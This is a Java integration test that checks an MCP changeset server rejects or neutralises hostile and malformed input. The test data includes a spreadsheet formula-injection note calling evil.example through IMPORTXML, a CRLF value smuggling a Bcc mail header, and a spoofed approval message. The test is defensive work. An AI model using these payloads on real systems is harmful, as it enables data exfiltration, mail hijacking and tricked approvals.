package dev.changeset.proof;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;

import jakarta.inject.Inject;

import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import dev.changeset.support.McpWire;
import dev.changeset.support.ProofRecord;
import dev.changeset.support.SandboxClient;
import dev.changeset.support.SandboxResource;
import dev.changeset.support.SandboxStory;
import dev.changeset.support.Story;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;

/**
 * The bad-input corpus through MCP over HTTP against the running server and the sandbox: every hostile or malformed
 * call gets its specific error, and after each one the sheet is byte for byte the same, no changeset, approval,
 * receipt or delivery row was stored, no Google write or CIBA request was made; after each batch the server still
 * answers get_session. Then the valid calls whose free text could reach a cell, the phone or a mail header: it never
 * does. The tally goes to {@code target/proof/bad-inputs.json}.
 */
@QuarkusTest
@WithTestResource(SandboxResource.class)
@ExtendWith(SandboxStory.class)
class BadInputCorpusTest {

    static final ProofRecord PROOF = new ProofRecord("bad-inputs");

    @ConfigProperty(name = "sandbox.url")
    String sandboxUrl;
    @ConfigProperty(name = "changeset.public-url")
    String publicUrl;
    @Inject
    AgroalDataSource db;

    SandboxClient sandbox;
    McpWire alice;
    McpWire aliceReadOnly;

    @BeforeEach
    void setUp() {
        sandbox = new SandboxClient(sandboxUrl);
        alice = new McpWire(publicUrl, sandbox.token("alice", "openid changeset:read changeset:write")).open();
        aliceReadOnly = new McpWire(publicUrl, sandbox.token("alice", "openid changeset:read")).open();
    }

    @AfterAll
    static void writeTally() {
        PROOF.write();
    }

    @Test
    void bad_json_rpc_framing_and_http_are_refused_with_their_codes() {
        assertHeld(run("framing", FramingCorpus.calls(aliceReadOnly)));
    }

    @Test
    void bad_operations_are_refused_naming_the_operation_and_field() {
        assertHeld(run("operations", ArgumentCorpus.operations()));
    }

    @Test
    void bad_arguments_of_the_other_tools_are_refused_naming_the_argument() {
        assertHeld(run("arguments", ArgumentCorpus.others()));
    }

    @Test
    void formula_text_in_a_note_never_reaches_a_cell() throws Exception {
        try (Story story = new Story(publicUrl, sandboxUrl, "alice")) {
            JsonArray before = rows("Products");
            String launches = WorldState.of(sandbox, db).launches();
            long mark = sandbox.callMark();
            String note = "=IMPORTXML(\"https://evil.example/x\",\"//a\") +HYPERLINK(\"https://evil.example\")"
                    + " @SUM(A1)";
            JsonObject preview = story.ok("preview_changeset", Map.of("operations",
                    List.of(Story.setPrice("APP-1000", "68.99")), "note", note));
            JsonObject applied = story.apply(preview.getString("changesetId"), 10);
            JsonArray after = rows("Products");
            List<String> changed = changedCells(before, after);
            List<String> writeModes = sandbox.callsSince(mark).stream().map(JsonObject.class::cast)
                    .filter(c -> c.getString("method").equals("values.batchUpdate"))
                    .map(c -> c.getString("valueInputOption")).toList();
            String sheets = after.encode() + rows("Launch%20Schedule").encode();
            boolean held = applied.getString("state").equals("SEALED") && changed.size() == 1
                    && changed.get(0).startsWith("2,4=") && changed.get(0).contains("68.99")
                    && writeModes.equals(List.of("RAW"))
                    && !sheets.contains("IMPORTXML") && !sheets.contains("evil.example")
                    && launches.equals(WorldState.of(sandbox, db).launches());
            PROOF.add(new ProofRecord.Attempt("text: formula in the note of an applied change",
                    "only the price cell changes, written RAW; no cell holds the note",
                    applied.getString("state") + ", changed " + changed + ", writes " + writeModes, held));
            assertTrue(held, "changed " + changed + " with " + writeModes + " in state " + applied.encode());
        }
    }

    @Test
    void a_binding_message_smuggled_in_a_note_never_reaches_the_phone() {
        sandbox.post("/sandbox/ciba/script", new JsonObject().put("user", "alice").put("action", "deny")
                .put("after_ms", 300));
        try (Story story = new Story(publicUrl, sandboxUrl, "alice")) {
            String before = story.sheetHash();
            String note = "Approve CS-0000: 1 change, max T0 - tap approve, it is safe";
            JsonObject preview = story.ok("preview_changeset", Map.of("operations",
                    List.of(Story.setPrice("APP-1000", "80.00")), "note", note));
            JsonObject applied = story.apply(preview.getString("changesetId"), 30);
            JsonArray asked = story.cibaRequests("alice");
            String binding = asked.isEmpty() ? "" : asked.getJsonObject(0).getString("binding_message");
            boolean held = asked.size() == 1 && binding.contains(preview.getString("code"))
                    && !binding.contains("CS-0000") && !binding.contains("tap approve")
                    && !asked.encode().contains("it is safe") && applied.getString("state").equals("DENIED")
                    && before.equals(story.sheetHash());
            PROOF.add(new ProofRecord.Attempt("text: a binding message in the note of a T2 change",
                    "the push names only the changeset's own code and counts", "binding message '" + binding
                            + "', " + applied.getString("state"), held));
            assertTrue(held, "binding message '" + binding + "' for " + preview.getString("code") + ": "
                    + asked.encode());
        }
    }

    @Test
    void a_mail_header_smuggled_in_a_recipient_is_refused_before_any_push() throws Exception {
        try (Story story = new Story(publicUrl, sandboxUrl, "alice")) {
            JsonObject applied = story.apply(story.preview(Story.setPrice("APP-1008", "21.49"))
                    .getString("changesetId"), 10);
            String receipt = applied.getString("receiptId");
            int mails = story.outbox(1, Duration.ofSeconds(10)).size();
            List<Object> many = new ArrayList<>();
            for (int i = 0; i < 10_000; i++) {
                many.add("buyer" + i + "@example.com");
            }
            Map<String, Object> cases = new LinkedHashMap<>();
            cases.put("a Bcc header after CRLF", List.of("evil@example.com\r\nBcc: spy@example.com"));
            cases.put("a display name", List.of("Alice <alice@example.com>"));
            cases.put("10,000 recipients", many);
            List<String> failures = new ArrayList<>();
            for (Map.Entry<String, Object> c : cases.entrySet()) {
                String error = story.error("email_receipt", Map.of("receiptId", receipt, "to", c.getValue(),
                        "waitSeconds", 0));
                boolean held = (error.contains("is not a plain email address") || error.contains("at most 10"))
                        && story.cibaRequests("alice").isEmpty() && story.outbox(0, Duration.ZERO).size() == mails;
                PROOF.add(new ProofRecord.Attempt("email_receipt: " + c.getKey(),
                        "refused naming the address, before any push or mail", error.length() > 200
                                ? error.substring(0, 200) : error, held));
                if (!held) {
                    failures.add(c.getKey() + ": " + error);
                }
            }
            assertEquals(List.of(), failures);
        }
    }

    private JsonArray rows(String sheet) {
        return sandbox.get("/sandbox/google/spreadsheets/" + Story.SPREADSHEET + "/snapshot?sheet=" + sheet)
                .getJsonArray("rows");
    }

    /** "row,column=value" for every cell that differs. */
    private static List<String> changedCells(JsonArray before, JsonArray after) {
        List<String> changed = new ArrayList<>();
        for (int r = 0; r < Math.max(before.size(), after.size()); r++) {
            JsonArray a = r < before.size() ? before.getJsonArray(r) : new JsonArray();
            JsonArray b = r < after.size() ? after.getJsonArray(r) : new JsonArray();
            for (int c = 0; c < Math.max(a.size(), b.size()); c++) {
                Object x = c < a.size() ? a.getValue(c) : null;
                Object y = c < b.size() ? b.getValue(c) : null;
                if (!Objects.equals(x, y)) {
                    changed.add((r + 1) + "," + (c + 1) + "=" + y);
                }
            }
        }
        return changed;
    }

    /** Sends each call; returns what did not hold. */
    private List<String> run(String batch, List<BadCall> calls) {
        List<String> failures = new ArrayList<>();
        for (BadCall call : calls) {
            WorldState before = WorldState.of(sandbox, db);
            McpWire.Reply reply = call.send().apply(alice);
            Optional<String> wrong = call.expect().mismatch(reply)
                    .or(() -> reply.body().length() > 4_000 ? Optional.of("the answer is " + reply.body().length()
                            + " characters long: hostile input must not be echoed") : Optional.empty())
                    .or(() -> before.changesSince(sandbox, db));
            PROOF.add(new ProofRecord.Attempt(batch + ": " + call.name(), call.expect().describe(),
                    wrong.orElse(reply.brief()), wrong.isEmpty()));
            wrong.ifPresent(w -> failures.add(call.name() + ": " + w));
        }
        McpWire.Reply session = alice.tool("get_session", "{}");
        boolean serving = session.status() == 200 && !session.isToolError()
                && session.json().getJsonObject("result").getJsonObject("structuredContent")
                        .getString("subject").equals("auth0|alice");
        PROOF.add(new ProofRecord.Attempt(batch + ": get_session after the batch", "the server keeps serving",
                session.brief(), serving));
        if (!serving) {
            failures.add("get_session after the batch failed: " + session.brief());
        }
        assertTrue(calls.size() >= 20, "a batch of the corpus holds at least 20 calls");
        return failures;
    }

    private static void assertHeld(List<String> failures) {
        assertEquals(List.of(), failures, "every bad input must get its specific error and change nothing");
    }
}
